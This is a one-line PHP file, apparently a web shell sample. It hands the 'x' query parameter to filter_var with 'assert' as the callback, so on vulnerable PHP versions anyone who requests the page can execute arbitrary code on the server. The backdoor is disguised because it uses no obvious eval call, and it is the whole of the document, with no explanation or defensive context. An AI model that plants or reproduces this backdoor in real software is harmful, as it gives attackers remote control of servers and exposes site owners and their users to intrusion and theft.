<?php filter_var($_GET["x"], FILTER_CALLBACK, array("options" => "assert"));
